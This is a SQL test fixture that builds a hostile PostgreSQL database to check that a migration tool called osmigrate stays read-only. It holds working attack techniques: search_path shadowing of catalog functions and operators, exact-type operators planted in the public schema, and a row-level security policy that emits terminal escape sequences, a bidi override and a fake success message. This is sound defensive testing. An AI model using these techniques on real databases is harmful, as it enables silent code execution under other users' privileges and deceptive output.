-- proof_hostile.sql - a database built to make osmigrate write, for
-- tests/e2e/proof_hostile_db.sh.  Load it as a superuser into a copy of the
-- demo database (demo/seed.sql) with psql -v hostile=on; with hostile=off
-- it creates only the (empty) trap tables, for the clean twin that must
-- hold the same tables and data.  The test then points a search_path at
-- the schema "evil" (ALTER DATABASE / ALTER ROLE ... SET search_path), never
-- here, so this script runs under the ordinary search_path.
--
-- Three attacks, each trying to write where it cannot be missed:
--   1. evil: a schema that overloads, with the same argument types, the
--      functions, aggregates and operators a catalog or data query uses
--      (set_config, current_setting, count, min, max, string_agg,
--      format_type, has_*_privilege, quote_ident, cardinality, =, <>, <, >,
--      <=, >=, ||, LIKE, ~ ... on date, timestamps, time, integers, numeric,
--      float, text, name, oid, "char"), and aurora_version().  Placed before
--      pg_catalog in a search_path, each one runs instead of the real one.
--   2. public, where the ordinary role mallory may create objects (the
--      default before PostgreSQL 15): comparison operators for numeric and
--      float against integer, date against text, oid against integer and
--      || on names.  pg_catalog has no operator for those exact argument
--      types, so an unqualified "numeric_column < 2147483647" picks these
--      even with pg_catalog first in the path.
--   3. a row-level security policy on sales.customers whose function raises
--      a NOTICE and a WARNING (terminal escape sequences, a bidi override, a
--      fake "ALL CHECKS PASSED") for every row, tries to write and moves the
--      session's search_path to evil.
-- Every one of them first tries to make the session writable
-- (default_transaction_read_only off, SET LOCAL transaction_read_only off)
-- and then inserts a row into evil.trap or public.trap_public, swallowing
-- any error so that the verdicts stay what they would be on a clean copy:
-- the attack is meant to be silent.  Both trap tables must stay empty.
\set ON_ERROR_STOP on
SET client_min_messages = warning;

DO $$
BEGIN
	IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'mallory') THEN
		CREATE ROLE mallory NOLOGIN;
	END IF;
END
$$;

-- The trap tables, in the clean twins too (same tables, same data): every
-- spring below inserts a row here.
CREATE SCHEMA evil AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.trap (
	at timestamptz NOT NULL DEFAULT clock_timestamp(),
	what text,
	who name NOT NULL DEFAULT current_user,
	read_only text DEFAULT current_setting('transaction_read_only')
);
CREATE TABLE public.trap_public (
	at timestamptz NOT NULL DEFAULT clock_timestamp(),
	what text,
	who name NOT NULL DEFAULT current_user
);
ALTER TABLE evil.trap OWNER TO mallory;
ALTER TABLE public.trap_public OWNER TO mallory;
GRANT SELECT, INSERT ON evil.trap, public.trap_public TO PUBLIC;

\if :hostile
-- ------------------------------------------------------------ 1. evil
SET ROLE mallory;

-- Runs as the caller (the operator's role): whatever it may do, the trap may.
CREATE FUNCTION evil.spring(what text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
	BEGIN
		PERFORM set_config('default_transaction_read_only', 'off', false);
	EXCEPTION WHEN OTHERS THEN NULL;
	END;
	BEGIN
		SET LOCAL transaction_read_only = off;
	EXCEPTION WHEN OTHERS THEN NULL;
	END;
	BEGIN
		INSERT INTO evil.trap (what) VALUES (what);
	EXCEPTION WHEN OTHERS THEN NULL;
	END;
END
$f$;

-- set_config: the session-setup statement of a tool calls it first.  It
-- answers 'on' and leaves the session writable.
CREATE FUNCTION evil.set_config(text, text, boolean) RETURNS text
LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
	PERFORM evil.spring('set_config(' || $1 || ')');
	IF $1 IN ('default_transaction_read_only', 'transaction_read_only') THEN
		PERFORM set_config($1, 'off', $3);
		RETURN 'on';
	END IF;
	RETURN set_config($1, $2, $3);
END
$f$;

-- Functions: the real one's result, after the trap.
DO $do$
DECLARE
	f record;
BEGIN
	FOR f IN SELECT * FROM (VALUES
		('current_setting', 'text', 'text'),
		('current_database', '', 'name'),
		('has_schema_privilege', 'oid, text', 'boolean'),
		('has_table_privilege', 'oid, text', 'boolean'),
		('has_sequence_privilege', 'oid, text', 'boolean'),
		('pg_has_role', 'name, name, text', 'boolean'),
		('format_type', 'oid, integer', 'text'),
		('pg_get_expr', 'pg_node_tree, oid', 'text'),
		('pg_get_indexdef', 'oid', 'text'),
		('pg_get_constraintdef', 'oid', 'text'),
		('quote_ident', 'text', 'text'),
		('cardinality', 'text[]', 'integer'),
		('cardinality', 'smallint[]', 'integer'),
		('array_position', 'smallint[], smallint', 'integer'),
		('host', 'inet', 'text'),
		('round', 'numeric, integer', 'numeric'),
		('trunc', 'numeric', 'numeric'),
		('trunc', 'double precision', 'double precision'),
		('char_length', 'text', 'integer'),
		('char_length', 'character', 'integer'),
		('pg_stat_get_live_tuples', 'oid', 'bigint'),
		('pg_stat_get_tuples_inserted', 'oid', 'bigint'),
		('pg_stat_get_tuples_deleted', 'oid', 'bigint'),
		('pg_stat_get_last_analyze_time', 'oid', 'timestamptz'),
		('pg_stat_get_last_autoanalyze_time', 'oid', 'timestamptz')
	) AS v(name, args, ret) LOOP
		EXECUTE format($q$
			CREATE FUNCTION evil.%1$I(%2$s) RETURNS %3$s
			LANGUAGE plpgsql SET search_path = pg_catalog AS $b$
			BEGIN
				PERFORM evil.spring(%4$L);
				RETURN pg_catalog.%1$I(%5$s);
			END
			$b$$q$, f.name, f.args, f.ret, f.name || '(' || f.args || ')',
			(SELECT coalesce(string_agg('$' || g, ', '), '')
			   FROM generate_series(1, CASE WHEN f.args = '' THEN 0
						     ELSE array_length(string_to_array(f.args, ','), 1) END) g));
	END LOOP;
END
$do$;

-- Two-argument unnest in FROM, as a catalog query might call it.
CREATE FUNCTION evil.unnest(text[], text[]) RETURNS TABLE (a text, b text)
LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
	PERFORM evil.spring('unnest(text[], text[])');
	RETURN QUERY SELECT * FROM unnest($1, $2);
END
$f$;

-- Found by name anywhere in pg_proc, it makes a tool call it.
CREATE FUNCTION evil.aurora_version() RETURNS text
LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
	PERFORM evil.spring('aurora_version()');
	RETURN '99.9';
END
$f$;

-- Aggregates.
CREATE FUNCTION evil.count_step(bigint) RETURNS bigint
LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
	IF $1 = 0 THEN
		PERFORM evil.spring('count(*)');
	END IF;
	RETURN $1 + 1;
END
$f$;
CREATE AGGREGATE evil.count(*) (SFUNC = evil.count_step, STYPE = bigint, INITCOND = '0');

CREATE FUNCTION evil.agg_concat(text, text, text) RETURNS text
LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
	PERFORM evil.spring('string_agg');
	RETURN CASE WHEN $1 IS NULL THEN $2 ELSE $1 || $3 || $2 END;
END
$f$;
CREATE AGGREGATE evil.string_agg(text, text) (SFUNC = evil.agg_concat, STYPE = text);

DO $do$
DECLARE
	t text;
	m record;
BEGIN
	FOREACH t IN ARRAY ARRAY['text', 'bigint', 'integer', 'numeric', 'smallint'] LOOP
		FOR m IN SELECT * FROM (VALUES ('min', 'LEAST'), ('max', 'GREATEST')) AS v(agg, pick) LOOP
			EXECUTE format($q$
				CREATE FUNCTION evil.%1$s_%2$s(%2$s, %2$s) RETURNS %2$s
				LANGUAGE plpgsql STRICT SET search_path = pg_catalog AS $b$
				BEGIN
					PERFORM evil.spring(%3$L);
					RETURN %4$s($1, $2);
				END
				$b$$q$, m.agg, t, m.agg || '(' || t || ')', m.pick);
			EXECUTE format('CREATE AGGREGATE evil.%1$s(%2$s) (SFUNC = evil.%1$s_%2$s, STYPE = %2$s)',
				       m.agg, t);
		END LOOP;
	END LOOP;
END
$do$;

-- Operators with the exact argument types of pg_catalog's own: the
-- search_path order decides, and evil comes first.
DO $do$
DECLARE
	t record;
	o record;
	n integer := 0;
BEGIN
	FOR t IN SELECT * FROM (VALUES
		('date', 'date'), ('timestamp', 'timestamp'), ('timestamptz', 'timestamptz'),
		('time', 'time'), ('bigint', 'bigint'), ('bigint', 'integer'), ('integer', 'integer'),
		('smallint', 'integer'), ('smallint', 'smallint'), ('numeric', 'numeric'),
		('double precision', 'double precision'), ('real', 'real'), ('text', 'text'),
		('name', 'name'), ('name', 'text'), ('oid', 'oid'), ('"char"', '"char"'),
		('boolean', 'boolean')
	) AS v(l, r) LOOP
		FOR o IN SELECT * FROM (VALUES ('='), ('<>'), ('<'), ('>'), ('<='), ('>=')) AS v(sym) LOOP
			n := n + 1;
			EXECUTE format($q$
				CREATE FUNCTION evil.op%1$s(%2$s, %3$s) RETURNS boolean
				LANGUAGE plpgsql SET search_path = pg_catalog AS $b$
				BEGIN
					PERFORM evil.spring(%4$L);
					RETURN $1 OPERATOR(pg_catalog.%5$s) $2;
				END
				$b$$q$, n, t.l, t.r, o.sym || ' (' || t.l || ', ' || t.r || ')', o.sym);
			EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.op%s)',
				       o.sym, t.l, t.r, n);
		END LOOP;
	END LOOP;
	FOR o IN SELECT * FROM (VALUES ('~~'), ('!~~'), ('~'), ('!~')) AS v(sym) LOOP
		n := n + 1;
		EXECUTE format($q$
			CREATE FUNCTION evil.op%1$s(name, text) RETURNS boolean
			LANGUAGE plpgsql SET search_path = pg_catalog AS $b$
			BEGIN
				PERFORM evil.spring(%2$L);
				RETURN $1 OPERATOR(pg_catalog.%3$s) $2;
			END
			$b$$q$, n, o.sym || ' (name, text)', o.sym);
		EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = name, RIGHTARG = text, FUNCTION = evil.op%s)',
			       o.sym, n);
	END LOOP;
END
$do$;

CREATE FUNCTION evil.cat(text, text) RETURNS text
LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
	PERFORM evil.spring('|| (text, text)');
	RETURN $1 OPERATOR(pg_catalog.||) $2;
END
$f$;
CREATE OPERATOR evil.|| (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.cat);
CREATE FUNCTION evil.plus(integer, integer) RETURNS integer
LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
	PERFORM evil.spring('+ (integer, integer)');
	RETURN $1 OPERATOR(pg_catalog.+) $2;
END
$f$;
CREATE OPERATOR evil.+ (LEFTARG = integer, RIGHTARG = integer, FUNCTION = evil.plus);

-- 3. The row-level security function: no SET clause, so that the search_path
-- it sets stays in the caller's session.
CREATE FUNCTION evil.watch(k integer) RETURNS boolean
LANGUAGE plpgsql AS $f$
BEGIN
	RAISE NOTICE 'row %: %', k, E'\033]0;owned\007\033[2J\033[1;32mALL CHECKS PASSED\033[0m'
		OPERATOR(pg_catalog.||) U&'\202E\2066 evil';
	RAISE WARNING '%', E'\033[1A\033[2K\rosmigrate: ok' OPERATOR(pg_catalog.||) U&'\202E';
	PERFORM evil.spring(pg_catalog.concat('row-level security, row ', k));
	PERFORM pg_catalog.set_config('search_path', 'evil, pg_catalog, public', false);
	RETURN true;
END
$f$;
RESET ROLE;

ALTER TABLE sales.customers ENABLE ROW LEVEL SECURITY;
CREATE POLICY watch ON sales.customers USING (evil.watch(id));

-- ------------------------------------------------------------ 2. public
GRANT CREATE ON SCHEMA public TO PUBLIC;
SET ROLE mallory;
CREATE FUNCTION public.mal_spring(what text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
	BEGIN
		PERFORM set_config('default_transaction_read_only', 'off', false);
	EXCEPTION WHEN OTHERS THEN NULL;
	END;
	BEGIN
		SET LOCAL transaction_read_only = off;
	EXCEPTION WHEN OTHERS THEN NULL;
	END;
	BEGIN
		INSERT INTO public.trap_public (what) VALUES (what);
	EXCEPTION WHEN OTHERS THEN NULL;
	END;
END
$f$;

-- Argument types pg_catalog has no operator for: an exact match here wins
-- over pg_catalog's operator that needs an implicit cast.
DO $do$
DECLARE
	t record;
	o record;
	n integer := 0;
BEGIN
	FOR t IN SELECT * FROM (VALUES
		('numeric', 'integer', 'numeric'), ('numeric', 'bigint', 'numeric'),
		('integer', 'numeric', 'numeric'), ('bigint', 'numeric', 'numeric'),
		('double precision', 'integer', 'double precision'),
		('double precision', 'bigint', 'double precision'),
		('real', 'integer', 'double precision'), ('real', 'bigint', 'double precision'),
		('date', 'text', 'text'), ('text', 'date', 'text'),
		('oid', 'integer', 'bigint')
	) AS v(l, r, via) LOOP
		FOR o IN SELECT * FROM (VALUES ('='), ('<>'), ('<'), ('>'), ('<='), ('>=')) AS v(sym) LOOP
			n := n + 1;
			EXECUTE format($q$
				CREATE FUNCTION public.mal_op%1$s(%2$s, %3$s) RETURNS boolean
				LANGUAGE plpgsql SET search_path = pg_catalog AS $b$
				BEGIN
					PERFORM public.mal_spring(%4$L);
					RETURN $1::%6$s OPERATOR(pg_catalog.%5$s) $2::%6$s;
				END
				$b$$q$, n, t.l, t.r, o.sym || ' (' || t.l || ', ' || t.r || ')', o.sym, t.via);
			EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.mal_op%s)',
				       o.sym, t.l, t.r, n);
		END LOOP;
	END LOOP;
END
$do$;
CREATE FUNCTION public.mal_cat(name, name) RETURNS text
LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
	PERFORM public.mal_spring('|| (name, name)');
	RETURN $1::text OPERATOR(pg_catalog.||) $2::text;
END
$f$;
CREATE OPERATOR public.|| (LEFTARG = name, RIGHTARG = name, FUNCTION = public.mal_cat);
RESET ROLE;
\endif
